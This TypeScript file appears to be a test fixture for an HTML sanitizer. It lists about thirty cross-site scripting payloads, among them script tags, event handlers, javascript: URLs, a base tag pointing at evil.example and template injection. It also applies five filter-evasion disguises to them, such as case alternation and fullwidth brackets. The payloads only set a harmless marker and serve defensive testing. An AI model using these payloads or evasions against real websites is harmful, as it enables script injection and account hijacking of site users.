const act = 'window.__pwn=1'

const plain = [
  `<script>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `"><img src=x onerror=${act}>`,
  `'><svg/onload=${act}>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `<iframe srcdoc="<script>parent.__pwn=1</script>">`,
  `<iframe src="javascript:parent.__pwn=1">`,
  `<a href="javascript:${act}">a</a>`,
  `javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `<details open ontoggle=${act}>`,
  `<body onload=${act}>`,
  `<input autofocus onfocus=${act}>`,
  `<video><source onerror=${act}>`,
  `<object data="javascript:${act}">`,
  `<embed src="javascript:${act}">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<svg><script>${act}</script></svg>`,
  `<math><a xlink:href="javascript:${act}">`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `{{constructor.constructor('${act}')()}}`,
  `\${${act}}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `\\u003cscript\\u003e${act}`,
  `<style>@import 'javascript:${act}'</style>`,
  `<button formaction="javascript:${act}">`,
  `<marquee onstart=${act}>`,
]

/** The ways in which people hide scripts from filters. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('=', ' = '),
]

export const waysToRunScript: readonly string[] = disguises.flatMap((disguise) => plain.map(disguise))
